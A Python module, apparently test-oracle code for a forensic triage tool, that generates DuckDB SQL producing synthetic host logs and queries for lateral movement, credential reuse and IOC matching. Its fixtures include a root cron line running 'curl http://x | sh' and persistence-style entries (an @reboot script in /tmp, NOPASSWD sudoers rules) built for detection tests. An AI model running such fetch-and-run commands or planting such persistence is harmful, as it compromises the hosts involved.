"""DuckDB SQL for the case-level operators, functions and scans, and the shared inputs they use."""

from __future__ import annotations

from triagelake.checks import oracle_detections as d
from triagelake.checks import oracle_timeline as tlo
from triagelake.checks.adapters import cte, q
from triagelake.checks.oracle_detections import BASE, EXT, any_, case_, fld, in_
from triagelake.operators import correlation, cross_platform
from triagelake.operators.filters import TEXT_COLUMNS
from triagelake.operators.findings import PHASES
from triagelake.operators.ioc import KIND_LABELS
from triagelake.operators.windows import USN_REASONS

FINDINGS = ["log_cleared", "scheduled_task", "root_ssh", "account_created", "run_keys", "shimcache_presence", "web_scanners", "ransom_notes"]
H = "'host-' || CAST(user_id % 6 AS STRING)"
C = lambda x: f"CAST({x} AS STRING)"
MON = "'Jan'"
DAY = "1 + event_id % 30"
PAD = lambda x: f"lpad({C(x)}, 2, '0')"
HH, MM, SS = "event_id % 24", "event_id % 60", "user_id % 60"
CLOCK = f"{PAD(HH)} || ':' || {PAD(MM)} || ':' || {PAD(SS)}"
STAMP = f"CAST('2024-01-' || {PAD(DAY)} || ' ' || {CLOCK} AS TIMESTAMP)"
CLASSIC = f"'Jan ' || lpad({C(DAY)}, 2, ' ') || ' ' || {CLOCK}"
SRC = f"'/home/user' || {C('user_id % 6')} || '/file'"


def line(expr: str) -> str:
    return f"SELECT {H} AS host_id, {SRC} AS source_file, event_id AS line_no, {expr} AS line FROM events"


def arms(n: int, items: list[str]) -> str:
    return f"CASE event_id % {n} " + " ".join(f"WHEN {i} THEN {x}" for i, x in enumerate(items)) + " END"


AUTH = [
    f"'sshd[' || {C('event_id')} || ']: Accepted publickey for user' || {C('user_id')} || ' from 10.0.0.' || {C('event_id % 9')} || ' port 40' || {C('event_id % 10')} || ' ssh2'",
    f"'sshd[7]: Failed password for invalid user bad' || {C('event_id % 5')} || ' from 203.0.113.' || {C('event_id % 9')} || ' port 22 ssh2'",
    "'sudo: alice : TTY=pts/0 ; COMMAND=/bin/ls'", "'useradd[9]: new user: name=mallory, UID=1001'", "'cron[3]: pam_unix(cron:session): session opened for user root(uid=0)'", "'no colon here'",
]
SYS = [
    "'CRON[5]: (root) CMD (curl http://x | sh)'", "'kernel: usb-storage 1-1: USB Mass Storage device'", "'systemd[1]: foo.service: Scheduled restart job, restart counter is at 5.'", "'kernel: nginx[9]: segfault at 0'", "'su[4]: (to root) alice on pts/1'", "'sshd[1]: ignored'", "'kernel: chatter'", "'systemd[1]: Started bar.timer - thing.'",
]
def unit_file(ending: str, rows: list[str]) -> str:
    """One small file per event; # stands for its id."""
    text = " ".join(f"WHEN {k} THEN {q(row).replace('#', chr(39) + ' || ' + C('event_id') + ' || ' + chr(39))}" for k, row in enumerate(rows))
    numbers = " UNION ALL ".join(f"SELECT {k} AS k" for k in range(len(rows)))
    return f"SELECT {H} AS host_id, '/etc/units/u' || {C('event_id')} || '.{ending}' AS source_file, k AS line_no, CASE k {text} END AS line FROM (SELECT event_id, user_id, k FROM events CROSS JOIN ({numbers}) kk) z"


LINES = {
    "auth": line(f"{CLASSIC} || ' srv1 ' || {arms(6, AUTH)}"),
    "syslog": line(f"'2024-01-' || {PAD(DAY)} || 'T' || {CLOCK} || '+00:00 srv2 ' || {arms(8, SYS)}"),
    "sudo": line(f"{CLASSIC} || ' : user' || {C('user_id')} || ' : ' || {arms(3, [q('TTY=pts/0 ; PWD=/home ; USER=root ; COMMAND=/bin/cat x=y'), q('3 incorrect password attempts ; TTY=pts/1 ; USER=root ; COMMAND=/bin/su'), q('USER=bob')])}"),
    "web": line(f"'203.0.113.' || {C('event_id % 9')} || ' - - [' || {PAD(DAY)} || '/Jan/2024:' || {CLOCK} || ' +0000] \"GET /p' || {C('event_id % 7')} || CASE WHEN event_id % 2 = 0 THEN '?id=' || {C('event_id')} ELSE '' END || ' HTTP/1.1\" ' || {C('200 + event_id % 5')} || ' ' || CASE WHEN event_id % 3 = 0 THEN '-' ELSE {C('event_id')} END || CASE WHEN event_id % 4 = 0 THEN '' ELSE ' \"-\" \"Mozilla/5.0 (X11)\"' END"),
    "rails": line(f"CASE WHEN event_id % 3 = 0 THEN 'Started GET \"/t' || {C('event_id')} || '?a=1\" for 203.0.113.' || {C('event_id % 9')} || ' at 2024-01-' || {PAD(DAY)} || ' ' || {CLOCK} || ' +0000' WHEN event_id % 3 = 1 THEN 'Processing' ELSE 'Completed ' || {C('200 + event_id % 300')} || ' OK in 5ms' END"),
    "bash": line(f"CASE WHEN event_id % 3 = 0 THEN '#' || {C('1700000000 + event_id')} WHEN event_id % 7 = 5 THEN '' ELSE 'cmd ' || {C('event_id')} END"),
    "audit": f"SELECT {H} AS host_id, {SRC} AS source_file, event_id * 4 + k AS line_no, CASE k WHEN 0 THEN 'type=SYSCALL msg=audit(' || {C('1700000000 + event_id')} || '.500:' || {C('event_id')} || '): arch=c000003e syscall=' || CASE WHEN event_id % 2 = 0 THEN '59' ELSE '257' END || ' success=yes exit=0 auid=' || CASE WHEN event_id % 3 = 0 THEN '4294967295' ELSE '1000' END || ' uid=0 exe=\"/usr/bin/x' || {C('event_id % 9')} || '\" key=(null)' WHEN 1 THEN 'type=EXECVE msg=audit(' || {C('1700000000 + event_id')} || '.500:' || {C('event_id')} || '): argc=3 a0=\"ls\" a1=2D6C61 a2=\"f' || {C('event_id')} || '\"' WHEN 2 THEN 'type=CWD msg=audit(' || {C('1700000000 + event_id')} || '.500:' || {C('event_id')} || '): cwd=\"/root\"' ELSE 'type=PATH msg=audit(' || {C('1700000000 + event_id')} || '.500:' || {C('event_id')} || '): item=0 name=\"n' || {C('event_id % 5')} || '\"' END AS line FROM (SELECT event_id, user_id, k FROM events CROSS JOIN (SELECT 0 AS k UNION ALL SELECT 1 UNION ALL SELECT 2 UNION ALL SELECT 3) kk WHERE k <> 1 OR event_id % 2 = 0) z",
    "dpkg": line(f"'2024-01-' || {PAD(DAY)} || ' ' || {CLOCK} || ' ' || {arms(4, [q('install nmap:amd64 <none> 7.9'), q('status installed vim:amd64 8.2'), q('remove curl:amd64 7.1 <none>'), q('upgrade bash:amd64 5.0 5.1')])}"),
    "apt": line(f"CASE event_id % 4 WHEN 0 THEN 'Start-Date: 2024-01-' || {PAD(DAY)} || '  ' || {CLOCK} WHEN 1 THEN 'Install: nmap:amd64 (7.' || {C('event_id')} || ', automatic), vim:amd64 (8.1)' WHEN 2 THEN 'Remove: gcc (9.3, x)' ELSE '' END"),
    "yum": line(f"{CLASSIC} || ' ' || {arms(3, [q('Installed: nmap-ncat-7.70-5.el8.x86_64'), q('Erased: telnet'), q('chatter')])}"),
    "cron": line(f"{arms(4, [q('17 * * * * root cd / && run'), q('@reboot root /tmp/.h/b.sh -x'), q('# comment'), q('PATH=/usr/bin')])}"),
    "passwd": line(f"'user' || {C('event_id')} || ':x:' || {C('event_id')} || ':100::/home/u:/bin/' || CASE WHEN event_id % 2 = 0 THEN 'bash' ELSE 'false' END"),
    "group": line(f"'grp' || {C('event_id')} || ':x:' || {C('event_id % 99')} || ':' || CASE WHEN event_id % 2 = 0 THEN '' ELSE 'a,b' || {C('user_id')} END"),
    "shadow": line(f"'acct' || {C('event_id % 40')} || ':' || {arms(5, [q(''), q('*'), q('!!'), q('!abc'), q('$6$x')])} || ':1:2'"),
    "sudoers": line(f"{arms(4, [q('alice ALL=(ALL) NOPASSWD: ALL'), q('%admin ALL=(root) /usr/bin/ls'), q('Defaults env_reset'), q('bob ALL=NOPASSWD:EXEC: /bin/x')])}"),
    "keys": line(f"CASE WHEN event_id % 2 = 0 THEN 'command=\"/bin/a,b c\",no-pty ' ELSE '' END || 'ssh-rsa AAAA user@h' || {C('event_id')}"),
    "lease": line(f"CASE WHEN event_id % 2 = 0 THEN 'bound to 10.0.0.' || {C('event_id % 250')} || ' via 127.0.0.1 mask 255.255.255.0' ELSE 'other 10.9.9.9' END"),
    "security": line(f"'2024-01-' || {PAD(DAY)} || ' ' || {CLOCK} || ' ' || {arms(4, [q('XProtect[3]: malware detected in /Users/a/x.app now'), q('Gatekeeper: blocked by policy'), q('unrelated words'), q('syspolicyd: assessment passed')])} || ' n' || {C('event_id')}"),
    "body": line(f"'0|/Users/a|b/f' || {C('event_id')} || CASE WHEN event_id % 3 = 0 THEN ' -> /t' ELSE '' END || '|' || {C('event_id + 1')} || '|' || {arms(3, [q('lrwxr-xr-x'), q('-rw-r--r--'), q('drwxr-xr-x')])} || '|501|20|' || {C('event_id * 2')} || '|1700000000|' || {C('1700000000 + event_id')} || '.25|0|' || CASE WHEN event_id % 2 = 0 THEN '0' ELSE '1700000300' END"),
    "script": line(f"{arms(4, [q('/opt/run') + ' || ' + C('event_id') + ' || ' + q(' --go'), q('# note'), q('PATH=/usr/bin'), q('fi')])}"),
    "hosts": line(f"{arms(3, [q('h') + ' || ' + C('event_id') + ' || ' + q('.example.com ssh-ed25519 AAAA'), q('@cert-authority h') + ' || ' + C('event_id') + ' || ' + q(' ssh-rsa BBBB'), q('# old')])}"),
    "sshd": line(f"{arms(4, [q('Port ') + ' || ' + C('event_id'), q('PermitRootLogin yes'), q('# Port 1'), q('Banner=/etc/b') + ' || ' + C('event_id')])}"),
    "release": line(f"{arms(4, [q('PRETTY_NAME=') + ' || ' + q(chr(34) + 'Sys ') + ' || ' + C('event_id') + ' || ' + q(chr(34)), q('ID=sys') + ' || ' + C('event_id'), q('# VERSION_ID=0'), q('VERSION_ID=') + ' || ' + C('event_id')])}"),
    "preload": line(f"'/lib/x' || {C('event_id')} || '.so' || CASE WHEN event_id % 2 = 0 THEN ' /lib/y.so #off /lib/z.so' ELSE '' END"),
    "unit": unit_file("service", ["[Unit]", "Description=unit #", "[Service]", "ExecStart=-/opt/run #", "ExecStart=/bin/later", "User=u#"]),
    "timer": unit_file("timer", ["[Timer]", "OnCalendar=daily", "OnBootSec=#", "[Unit]", "Description=timer #", "; end"]),
    "desktop": unit_file("desktop", ["[Desktop Entry]", "Name=app #", "Exec=/usr/bin/app #", "Name=again", "", "Type=Application"]),
    "ioc": "SELECT event_id AS line_no, CASE WHEN event_id % 5 = 4 THEN '# skip 9.9.9.9' ELSE '\"site' || CAST(event_id % 40 AS STRING) || '.test\", 10.8.0.' || CAST(event_id % 30 AS STRING) || '; EVIL' || CAST(event_id % 9 AS STRING) || '.example.com' END AS line FROM events",
}
TOKENS = f"SELECT {arms(5, [C('event_id') + chr(32) + '|| ' + q('.example.com'), q('10.1.2.') + ' || ' + C('event_id % 300'), q('HTTP://x/') + ' || ' + C('event_id % 50'), q('aaaabbbbccccddddeeeeffff0000111122223') + ' || ' + C('100 + event_id % 60'), q('fe80::') + ' || ' + C('event_id % 10')])} AS value, event_id AS pos FROM events"
FEEDS = """SELECT CAST(tier AS INT) AS tier, CAST(ord AS INT) AS provider_order, source, kind, value, verdict, '' AS detail FROM (
 SELECT DISTINCT 0 AS tier, 0 AS ord, 'good' AS source, 'hash' AS kind, 'AAAABBBBCCCCDDDDEEEEFFFF0000111122223' || CAST(100 + event_id % 20 AS STRING) AS value, 'knownGood' AS verdict FROM events
 UNION ALL SELECT DISTINCT 1, 1, 'ti', 'hash', 'aaaabbbbccccddddeeeeffff0000111122223' || CAST(100 + event_id % 40 AS STRING), CASE WHEN event_id % 40 % 3 = 0 THEN 'malicious' WHEN event_id % 40 % 3 = 1 THEN 'error' ELSE 'unknown' END FROM events
 UNION ALL SELECT DISTINCT 2, 2, 'vt', 'ip', '10.1.2.' || CAST(event_id % 300 AS STRING), CASE WHEN event_id % 300 % 2 = 0 THEN 'suspicious' ELSE 'error' END FROM events
 UNION ALL SELECT DISTINCT 2, 2, 'vt', 'hash', 'aaaabbbbccccddddeeeeffff0000111122223' || CAST(100 + event_id % 60 AS STRING), 'unknown' FROM events) z"""
CLAIMS = "SELECT event_id AS claim_id, 'see /a/b' AS statement, 'delivery' AS phase, CAST(1 AS INT) AS severity, CASE event_id % 4 WHEN 0 THEN '(F01),F02' WHEN 1 THEN 'F99' WHEN 2 THEN ' F03.,F98,F03' ELSE 'F04' END AS refs FROM events WHERE event_type = 'error'"
CONVERSATION_NOTES = "SELECT turn, 'finding' AS target_kind, 'k' || CAST(conv_id % 60 AS STRING) AS target_key, CAST(NULL AS STRING) AS host_id, CASE conv_id % 3 WHEN 0 THEN 'benign' WHEN 1 THEN 'malicious' END AS tag, text AS note, CASE WHEN turn % 2 = 0 THEN role ELSE '' END AS author, 't' || CAST(conv_id % 60 AS STRING) AS title, CAST(NULL AS TIMESTAMP) AS timestamp, 'Finding' AS source_label, TIMESTAMP '2024-01-01 00:00:00' + conv_id * INTERVAL 1 SECOND AS created_at, TIMESTAMP '2024-01-01 00:00:00' + (turn * 100000 + conv_id) * INTERVAL 1 SECOND AS modified_at FROM conversations"

ORACLES: dict[str, str] = {}
O = ORACLES
ED = f"""e AS (SELECT * FROM (SELECT epoch_us(written_at) us, computer tgt, event_id = 4625 bad, {fld('TargetUserName')} usr, {fld('LogonType')} lt, CASE WHEN trim(coalesce({fld('WorkstationName')}, '')) NOT IN ('', '-') THEN trim({fld('WorkstationName')}) WHEN trim(coalesce({fld('IpAddress')}, '')) NOT IN ('', '-', '::1', '0.0.0.0', '127.0.0.1') THEN trim({fld('IpAddress')}) END src FROM a_events WHERE event_id IN (4624, 4625)) x WHERE lt IN ('3', '7', '8', '10') AND src IS NOT NULL AND src <> tgt)"""
EDG = "SELECT src AS source, tgt AS target, count(*) AS count, CAST(sum(CASE WHEN bad THEN 1 ELSE 0 END) AS BIGINT) AS failure_count, count(DISTINCT usr) AS user_count"
O["lateral_edges"] = f"{cte('events')}, {ED} {EDG}, array_to_string(list_sort(list(DISTINCT CAST(lt AS INT))), ',') AS logon_types, min(us) AS first_seen_us, max(us) AS last_seen_us FROM e GROUP BY src, tgt"
O["lateral_edge_users"] = f"{cte('events')}, {ED} SELECT src AS source, tgt AS target, usr AS \"user\", count(*) AS count, CAST(sum(CASE WHEN bad THEN 1 ELSE 0 END) AS BIGINT) AS failures, min(us) AS first_seen_us, max(us) AS last_seen_us FROM e WHERE usr IS NOT NULL GROUP BY src, tgt, usr"
O["lateral_nodes"] = f"{cte('events')}, {ED}, p AS (SELECT DISTINCT src, tgt FROM e), n AS (SELECT src id FROM p UNION ALL SELECT tgt FROM p) SELECT id, CASE WHEN id IN (SELECT computer FROM a_events) THEN 'knownHost' ELSE 'externalSource' END AS kind, count(*) AS degree FROM n GROUP BY id"
O["lateral_node_inbound"] = f"{cte('events')}, {ED} {EDG}, min(us) AS first_seen_us, max(us) AS last_seen_us FROM e WHERE tgt = 'WS-3' GROUP BY src, tgt"
O["lateral_node_outbound"] = O["lateral_node_inbound"].replace("WHERE tgt = 'WS-3'", "WHERE src = 'WS-3'")
USERS = """SELECT DISTINCT host_id, u FROM (SELECT host_id, name u FROM a_linux_users WHERE uid BETWEEN 1000 AND 64999 AND shell NOT LIKE '%nologin' AND shell NOT LIKE '%/false' AND shell <> '' UNION ALL SELECT host_id, "user" FROM a_logins WHERE type = 'userProcess' AND NOT is_failed_login UNION ALL SELECT host_id, "user" FROM a_auth_log WHERE kind IN ('sshAccepted', 'sudo', 'sessionOpened')) x WHERE u <> ''"""
IPS = f"SELECT DISTINCT host_id, ip FROM (SELECT host_id, source_ip ip FROM a_auth_log WHERE kind = 'sshAccepted' UNION ALL SELECT host_id, {fld('IpAddress')} FROM a_events WHERE event_id IN (4624, 4625)) x WHERE ip NOT IN ('', '-', '::1', '127.0.0.1')"
ALL4 = cte("events", "auth_log", "logins", "linux_users", "hosts")
O["host_summary"] = f"{ALL4} SELECT host_id, 'user' AS kind, u AS value FROM ({USERS}) a UNION ALL SELECT host_id, 'source_ip', ip FROM ({IPS}) b"
SEV = "CAST(CASE WHEN n <= 2 THEN 2 WHEN n = 3 THEN 3 ELSE 4 END AS INT)"
O["source_pivots"] = f"{ALL4} SELECT 'Source ' || ip || ' authenticated to ' || n || ' hosts (lateral pivot)' AS title, {SEV} AS severity, 'exploitation' AS phase, 'T1021' AS attack_id, CAST(NULL AS BIGINT) AS ts_us, hs AS hosts FROM (SELECT ip, count(*) n, string_agg(display_name, '|' ORDER BY display_name) hs FROM ({IPS}) i JOIN a_hosts h USING (host_id) WHERE ip NOT IN ('::', '0.0.0.0') AND NOT starts_with(ip, '127.') GROUP BY ip HAVING count(*) >= 2) z"
UK = r"regexp_replace(lower(trim(u)), '^.*\\', '')"
BI = f"({UK} LIKE '%$' OR starts_with({UK}, 'dwm-') OR starts_with({UK}, 'umfd-') OR {UK} IN {in_(correlation.BUILTIN_USERS)} OR lower(trim(u)) IN ('', '-'))"
O["credential_reuse"] = f"{ALL4} SELECT 'Account `' || s || '` active on ' || n || ' hosts (credential reuse)' AS title, {SEV} AS severity, 'exploitation' AS phase, 'T1078' AS attack_id, CAST(NULL AS BIGINT) AS ts_us, hs AS hosts FROM (SELECT k, min(s) s, count(*) n, string_agg(display_name, '|' ORDER BY display_name) hs FROM (SELECT host_id, {UK} k, min(trim(u)) s FROM ({USERS}) a WHERE NOT {BI} GROUP BY 1, 2) g JOIN a_hosts h USING (host_id) GROUP BY k HAVING count(*) >= 2) z"
O["lateral_edges_stored"], O["lateral_nodes_stored"] = O["lateral_edges"], O["lateral_nodes"]
O["correlation_stored"] = f"(SELECT * FROM ({O['source_pivots']}) a) UNION ALL (SELECT * FROM ({O['credential_reuse']}) b)"
O["user_key"] = f"{cte('auth_log')} SELECT DISTINCT \"user\", {UK.replace('trim(u)', 'trim(' + chr(34) + 'user' + chr(34) + ')')} AS key, {BI.replace('trim(u)', 'trim(' + chr(34) + 'user' + chr(34) + ')')} AS builtin FROM a_auth_log"
ESC = r"replace(needle, '.', '\.')"
IPRE = r"'(^|[^0-9.]|(^|[^0-9])\.)' || " + ESC + r" || '($|[^0-9.]|\.($|[^0-9]))'"
HIT = f"CASE WHEN kind = 'ip' THEN regexp_matches(hay, {IPRE}) ELSE contains(hay, needle) END"
FP = tlo.FP
NEED = "n AS (SELECT lower(value) needle, kind, min(value) v FROM a_iocs GROUP BY 1, 2)"
MT = f"""{cte('iocs', 'events', 'registry', 'files', 'hosts')}, {NEED},
 m AS (SELECT host_id, lower({fld('IpAddress')}) v, 'ip' kind, 'event' place, channel || ' EID ' || event_id s, epoch_us(written_at) us FROM a_events WHERE event_id IN (4624, 4625) AND lower({fld('IpAddress')}) IN (SELECT needle FROM n WHERE kind = 'ip')
 UNION ALL SELECT host_id, v, kind, 'event', channel || ' EID ' || event_id, epoch_us(written_at) FROM (SELECT *, lower(replace(replace(payload_xml, '&apos;', ''''), '&amp;', '&')) hay FROM a_events) e JOIN n ON {HIT}
 UNION ALL SELECT host_id, v, kind, 'registry', CASE WHEN name = '' THEN path ELSE path || '\\' || name END, epoch_us(last_written) FROM (SELECT *, lower(data || ' ' || {tlo.KEYS}) hay FROM a_registry) r JOIN n ON {HIT}
 UNION ALL SELECT host_id, v, kind, 'file', p, epoch_us(at1) FROM (SELECT host_id, {FP} p, lower({FP}) hay, coalesce(modified, created) at1 FROM a_files) f JOIN n ON {HIT})""".replace("'\\\\'", "'\\'")
O["ioc_matches"] = f"{MT} SELECT host_id, v AS ioc_value, kind AS ioc_kind, place, s AS summary, us AS timestamp_us FROM m"
KL = case_([(f"kind = {q(k)}", q(v)) for k, v in KIND_LABELS.items()])
O["ioc_export_rows"] = f"{MT} SELECT coalesce(strftime(make_timestamp(us), '%Y-%m-%dT%H:%M:%SZ'), '') AS timestamp_iso, {KL} AS ioc_kind, v AS ioc_value, 'file' AS location_type, s AS location_detail, s AS context, coalesce(display_name, '') AS host FROM m LEFT JOIN (SELECT host_id, display_name FROM a_hosts) hh USING (host_id) WHERE place = 'file'"
O["shared_indicators"] = f"{MT} SELECT 'Shared indicator across ' || n || ' hosts: ' || {KL} || ' ' || v AS title, {SEV} AS severity, 'commandAndControl' AS phase, 'T1105' AS attack_id, us AS ts_us, hs AS hosts FROM (SELECT min(v || chr(1) || kind) x, split_part(min(v || chr(1) || kind), chr(1), 1) v, split_part(min(v || chr(1) || kind), chr(1), 2) kind, count(DISTINCT host_id) n, min(us) us, string_agg(DISTINCT display_name, '|' ORDER BY display_name) hs FROM m JOIN (SELECT host_id, display_name FROM a_hosts) hh USING (host_id) GROUP BY lower(v) HAVING count(DISTINCT host_id) >= 2) z"
CLS = r"CASE WHEN starts_with(lower(value), 'http://') OR starts_with(lower(value), 'https://') THEN 'url' WHEN regexp_matches(lower(value), '^([0-9a-f]{32}|[0-9a-f]{40}|[0-9a-f]{64})$') THEN 'hash' WHEN regexp_matches(value, '^(25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9]?[0-9])(\.(25[0-5]|2[0-4][0-9]|1[0-9][0-9]|[1-9]?[0-9])){3}$') OR (contains(value, ':') AND regexp_matches(lower(value), '^[0-9a-f:]*$')) THEN 'ip' ELSE 'domain' END"
O["ioc_classify"] = f"SELECT DISTINCT value, {CLS} AS kind FROM ({TOKENS}) t"
O["ioc_ingest"] = f"{cte('iocs')} SELECT {CLS} AS kind, value FROM (SELECT arg_min(tok, line_no) value FROM (SELECT line_no, trim(t, '\"''<>') tok FROM (SELECT line_no, unnest(regexp_split_to_array(line, '[,;\\n\\r\\t ]')) t FROM ({LINES['ioc']}) l WHERE NOT starts_with(trim(line), '#')) a) b WHERE tok <> '' AND lower(tok) NOT IN (SELECT lower(value) FROM a_iocs) GROUP BY lower(tok)) c"
RK = "CASE WHEN verdict IN ('knownGood', 'malicious', 'suspicious') THEN 0 WHEN verdict = 'unknown' THEN 1 ELSE 2 END"
O["enrichment"] = f"WITH i AS (SELECT DISTINCT {CLS} kind, lower(trim(value)) v FROM ({TOKENS}) t), f AS (SELECT *, row_number() OVER (PARTITION BY kind, lower(value) ORDER BY {RK}, tier, provider_order) k FROM ({FEEDS}) z) SELECT i.kind || ':' || v AS key, i.kind, coalesce(f.verdict, 'unknown') AS verdict, coalesce(f.source, '—') AS source, CAST(coalesce(f.tier, 0) AS INT) AS tier FROM i LEFT JOIN f ON f.kind = i.kind AND lower(f.value) = i.v AND k = 1"
O["enrichment_cache_merge"] = f"SELECT key, verdict, source FROM (SELECT kind || ':' || lower(trim(value)) AS key, verdict, source, row_number() OVER (PARTITION BY kind, lower(trim(value)) ORDER BY provider_order DESC, verdict DESC, source DESC) k FROM ({FEEDS}) z) y WHERE k = 1"
LF = f"lower({FP})"
O["os_family"] = f"""{cte('volumes', 'files')}, v AS (SELECT DISTINCT host_id, CASE WHEN fs_type = 'NTFS' THEN 'windows' WHEN fs_type LIKE 'Ext%' THEN 'linux' WHEN fs_type = 'APFS' THEN 'macos' END f FROM a_volumes WHERE fs_type <> 'FAT32'),
 s AS (SELECT host_id, bool_or({any_(LF, ['/system/library/', '/library/preferences/', '.app/contents/', '/private/var/db/'])}) mac, bool_or(contains({LF}, '/windows/')) win, bool_or(contains({LF}, '/users/')) usr, bool_or({any_(LF, ['/etc/', '/var/log/', '/home/'])}) lin FROM a_files WHERE host_id NOT IN (SELECT host_id FROM v) GROUP BY host_id)
 SELECT host_id, f AS family FROM v UNION ALL SELECT host_id, 'macos' FROM s WHERE mac UNION ALL SELECT host_id, 'windows' FROM s WHERE win OR (usr AND NOT mac) UNION ALL SELECT host_id, 'linux' FROM s WHERE lin AND NOT mac"""
CN = r"upper(hive) LIKE '%SYSTEM%' AND lower(path) LIKE '%control\computername\computername' AND lower(name) = 'computername'"
ORD = "struct_pack(a := source_file, b := path, c := name, d := data)"
O["windows_profile"] = rf"""{cte('registry')} SELECT host_id, arg_max(data, CASE WHEN {CN} THEN {ORD} END) AS hostname, coalesce((SELECT string_agg(DISTINCT ip, ',' ORDER BY ip) FROM (SELECT unnest(split(data, ' ')) ip FROM a_registry i WHERE i.host_id = r.host_id AND lower(i.path) LIKE '%services\tcpip\parameters\interfaces\%' AND lower(i.name) IN ('ipaddress', 'dhcpipaddress')) x WHERE ip <> '0.0.0.0'), '') AS ips,
 coalesce(arg_max(data, CASE WHEN lower(path) LIKE '%services\tcpip\parameters' AND name = 'Domain' THEN {ORD} END), arg_min(data, CASE WHEN lower(path) LIKE '%services\tcpip\parameters' AND name = 'NV Domain' THEN {ORD} END)) AS domain FROM a_registry r GROUP BY host_id"""
O["host_profiles"] = rf"{cte('registry')} SELECT host_id, arg_max(data, CASE WHEN {CN} THEN {ORD} END) AS hostname FROM a_registry GROUP BY host_id"
O["file_facts"] = f"""{cte('files')}, n AS (SELECT host_id, arg_min({FP}, struct_pack(a := id, b := parent_path, c := name, d := coalesce(created, modified))) p FROM a_files WHERE NOT is_directory AND {d.NOTE} GROUP BY host_id, lower(name)),
 f AS (SELECT host_id, lower(trim({FP})) key, id, {FP} p, size, is_deleted, created, modified FROM a_files WHERE NOT is_directory AND (host_id, lower(trim({FP}))) IN (SELECT (host_id, lower(trim(p))) FROM n)),
 g AS (SELECT host_id, key, min(id) i, count(DISTINCT (p, size, is_deleted, coalesce(CAST(created AS VARCHAR), ''), coalesce(CAST(modified AS VARCHAR), ''))) k FROM f GROUP BY 1, 2)
 SELECT g.host_id, g.key, arg_min(size, struct_pack(a := f.id, b := f.size, c := f.is_deleted, d := f.modified)) AS size, arg_min(is_deleted, struct_pack(a := f.id, b := f.size, c := f.is_deleted, d := f.modified)) AS is_deleted, any_value(k) > 1 AS ambiguous, epoch_us(arg_min(modified, struct_pack(a := f.id, b := f.size, c := f.is_deleted, d := f.modified))) AS modified_us FROM g JOIN f ON f.host_id = g.host_id AND f.key = g.key GROUP BY 1, 2"""
O["download_origin_facts"] = f"{cte('where_froms')} SELECT host_id, lower(path) AS key, split(min(urls), ',')[1] AS download_url, count(DISTINCT urls) > 1 AS ambiguous FROM a_where_froms GROUP BY 1, 2"
O["multi_host_packages"] = f"{cte('packages')} SELECT host_id, package, action, epoch_us(timestamp) AS ts_us FROM a_packages WHERE host_id IN ('host-1', 'host-2')"
O["source_integrity"] = "SELECT CAST(doc_id AS VARCHAR) AS path, 'sha256' AS algorithm, CASE WHEN doc_id % 5 = 0 THEN 'unavailable' WHEN doc_id % 7 = 0 THEN 'verified' ELSE 'mismatch' END AS status FROM documents"
F = " UNION ALL ".join(f"SELECT * FROM ({d.ORACLES[n]}) f{i}" for i, n in enumerate(FINDINGS))
PO = case_([(f"phase = {q(p)}", i) for i, p in enumerate(PHASES)])
O["kill_chain_groups"] = f"SELECT phase, {PO} AS phase_order, attack_id AS group_key, count(*) AS n, max(severity) AS max_severity, max(ts_us) AS newest_us FROM ({F}) z GROUP BY phase, attack_id"
DG = f"(SELECT *, 'F' || lpad(CAST(row_number() OVER (ORDER BY max_severity DESC, n DESC, key) AS VARCHAR), 2, '0') AS id FROM (SELECT coalesce(attack_id, title) AS key, count(*) AS n, max(severity) AS max_severity FROM ({F}) z GROUP BY 1) g)"
O["finding_digest"] = f"SELECT id, key, n, max_severity FROM {DG} d WHERE id <= 'F06'"
O["finding_digest_omitted"] = f"SELECT count(*) AS groups, greatest(count(*) - 3, 0) AS omitted FROM {DG} d"
RF = "CASE claim_id % 4 WHEN 0 THEN ['F01', 'F02'] WHEN 1 THEN ['F99'] WHEN 2 THEN ['F03', 'F98'] ELSE ['F04'] END"
VC = f"(SELECT claim_id, count(d.id) c, max(d.max_severity) s, count(*) - count(d.id) ph, array_to_string(list(d.key ORDER BY r.ref) FILTER (d.key IS NOT NULL), ',') ks FROM (SELECT claim_id, unnest({RF}) ref FROM ({CLAIMS}) c) r LEFT JOIN (SELECT * FROM {DG} y WHERE id <= 'F06') d ON d.id = r.ref GROUP BY claim_id)"
O["claim_validation"] = f"SELECT claim_id, c > 0 AS kept, CAST(coalesce(s, 1) AS INT) AS severity, coalesce(ks, '') AS keys, ph AS phantom_refs FROM {VC} v"
O["claim_report"] = f"SELECT count(*) AS proposed, count(*) FILTER (c > 0) AS kept, count(*) FILTER (c = 0) AS dropped, CAST(sum(ph) AS BIGINT) AS phantom_refs FROM {VC} v"
O["claim_metrics"] = f"WITH g AS (SELECT count(*) k, least(count(*), 6) sh FROM {DG} d), v AS (SELECT * FROM {VC} v) SELECT round((SELECT count(DISTINCT x) FROM (SELECT unnest(split(ks, ',')) x FROM v WHERE c > 0) a) / (SELECT sh FROM g), 6) AS recall, CAST(1.0 AS DOUBLE) AS precision, round((SELECT count(*) FILTER (c = 0) / count(*) FROM v), 6) AS drop_rate, round((SELECT sh / k FROM g), 6) AS digest_ceiling, (SELECT count(*) FILTER (contains(ks, ',')) FROM v) AS causal"
O["severity_counts"] = f"SELECT host_id, severity, count(*) AS n FROM ({F}) z GROUP BY ROLLUP (host_id, severity)"
O["phase_counts"] = f"SELECT host_id, phase, count(*) AS n, max(severity) AS max_severity FROM ({F}) z WHERE severity >= 2 GROUP BY 1, 2"
O["phase_matrix"] = f"SELECT host_id, count(*) FILTER (phase = 'installation') AS installation, count(*) FILTER (phase = 'actionsOnObjectives') AS \"actionsOnObjectives\", count(*) FILTER (phase = 'delivery') AS delivery FROM ({F}) z GROUP BY 1"
O["host_sections"] = f"{MT} SELECT h.host_id, display_name, (SELECT count(*) FROM a_files x WHERE x.host_id = h.host_id) AS files, (SELECT count(*) FROM a_events x WHERE x.host_id = h.host_id) AS events, (SELECT count(*) FROM a_registry x WHERE x.host_id = h.host_id) AS registry_values, (SELECT count(*) FROM ({F}) x WHERE x.host_id = h.host_id) AS findings, (SELECT count(*) FROM m x WHERE x.host_id = h.host_id) AS ioc_matches FROM a_hosts h"
